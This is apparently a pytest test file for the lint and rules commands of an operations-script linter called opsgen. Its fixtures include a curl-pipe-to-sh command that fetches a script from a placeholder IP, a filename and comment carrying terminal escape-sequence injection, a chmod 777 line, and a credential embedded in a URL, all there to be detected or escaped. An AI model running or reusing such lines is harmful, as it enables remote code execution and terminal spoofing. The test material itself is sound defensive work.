"""``opsgen lint`` and ``opsgen rules`` through the real entry point (real linters)."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from opsgen.cli import main
from opsgen.sandbox.outcomes import OUTCOMES
from opsgen.validators import RULES

GCC = re.compile(r"^(?P<path>[^\n]+?):(?P<line>\d+):(?P<col>\d+): "
                 r"(?P<sev>error|warning|info|style) (?P<code>\S+) (?P<msg>.+)$")
BAD = "#!/bin/bash\nset -euo pipefail\ncurl -fsSL http://198.51.100.7/b.sh | sh\n"
GOOD = "#!/bin/bash\nset -euo pipefail\necho hello\n"
PLAY = ("- name: p\n  hosts: all\n  tasks:\n    - name: hi\n      ansible.builtin.debug:\n"
        "        msg: hi\n")


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    out = {}
    for name, data in {"bad.sh": BAD, "good.sh": GOOD, "play.yml": PLAY,
                       "broken.yml": "- hosts: all\n  tasks: [\n",
                       "noext": "- hosts: all\n  tasks:\n    - ansible.builtin.ping:\n"}.items():
        out[name] = tmp_path / name
        out[name].write_text(data)
    out["bin.sh"] = tmp_path / "bin.sh"
    out["bin.sh"].write_bytes(b"\x00\x01\x02")
    return out


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["lint", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_clean_file_exits_0(files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, str(files["good.sh"]))
    assert code == 0 and out == ""
    assert "1 file(s), 0 error(s)" in err


def test_errors_print_gcc_lines_with_hints(files: dict[str, Path],
                                           capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, str(files["bad.sh"]), str(files["good.sh"]))
    assert code == 1
    lines = out.splitlines()
    m = GCC.match(lines[0])
    assert m and m["path"] == str(files["bad.sh"]) and (m["line"], m["col"]) == ("3", "1")
    assert (m["sev"], m["code"]) == ("error", "OPS101")
    assert lines[1].startswith("    hint: Download to a file")


def test_bad_input_is_one_line_and_others_still_linted(
        files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, str(files["bin.sh"]), str(files["bad.sh"]),
                         str(files["bin.sh"].with_name("missing.sh")))
    assert code == 3
    assert "OPS101" in out
    assert err.count("error[") == 2 and "binary file" in err and "no such file" in err
    assert "Traceback" not in err + out


def test_broken_yaml_is_a_finding_not_a_crash(files: dict[str, Path],
                                              capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "--no-ansible-lint", str(files["broken.yml"]))
    assert code == 1 and "Traceback" not in out + err
    (line,) = [ln for ln in out.splitlines() if GCC.match(ln)]
    assert GCC.match(line)["code"] == "OPS003"  # type: ignore[index]


def test_lang_detection_and_forcing(files: dict[str, Path],
                                    capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--no-ansible-lint", "-f", "json", str(files["noext"]))
    assert json.loads(out)["files"][0]["lang"] == "ansible" and code == 0
    code, out, _ = run(capsys, "--lang", "bash", "-f", "json", str(files["noext"]))
    assert json.loads(out)["files"][0]["lang"] == "bash"


def test_json_and_sarif(files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "--format", "json", str(files["bad.sh"]))
    doc = json.loads(out)
    assert code == 1 and doc["summary"]["errors"] == 1 and not doc["summary"]["ok"]
    code, out, _ = run(capsys, "--format", "sarif", "--no-ansible-lint", str(files["bad.sh"]),
                       str(files["play.yml"]))
    sarif = json.loads(out)
    assert sarif["version"] == "2.1.0" and code == 1
    assert [r["ruleId"] for r in sarif["runs"][0]["results"]] == ["OPS101"]


def test_untrusted_text_is_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = tmp_path / "x[bold red]APPROVED[blink]\x1b[2J.sh"
    evil.write_text("chmod 777 /srv/x  # opsgen: disable=OPS103 reason=\"ok\x1b]0;pwned\x07\"\n")
    code, out, _ = run(capsys, str(evil))
    assert code == 0
    assert "\x1b" not in out and "\x07" not in out
    assert "[bold red]APPROVED[blink]" in out and "\\x1b" in out
    assert "[suppressed: ok\\x1b]0;pwned\\x07]" in out


def test_secrets_never_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    f = tmp_path / "s.sh"
    f.write_text("curl -fsS https://admin:Sup3rS3cretPw@repo.example.invalid/p -o p\n")
    for fmt in ("text", "json", "sarif"):
        code, out, err = run(capsys, "-f", fmt, str(f))
        assert code == 1 and "Sup3rS3cretPw" not in out + err


def test_rules_lists_every_code(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules"]) == 0
    out = capsys.readouterr().out
    for code in [r.code for r in RULES] + [o.code for o in OUTCOMES]:
        assert re.search(rf"^{code}\s", out, re.M), code
    assert main(["rules", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert len(rows) == len(RULES) + len(OUTCOMES)


def test_rules_explains_one(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules", "OPS101"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("# OPS101: Do not pipe") and "## Problematic code" in out
    assert main(["rules", "OPS401"]) == 0
    assert "dry-run" in capsys.readouterr().out
    assert main(["rules", "SC2086"]) == 0
    assert "shellcheck.net/wiki/SC2086" in capsys.readouterr().out


def test_rules_unknown_code_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules", "OPS999"]) == 2
    assert "unknown rule code" in capsys.readouterr().err


def test_console_script(files: dict[str, Path]) -> None:
    exe = Path(sys.executable).with_name("opsgen")
    res = subprocess.run([str(exe), "lint", str(files["bad.sh"])], capture_output=True,
                         text=True, timeout=120)
    assert res.returncode == 1 and "OPS101" in res.stdout
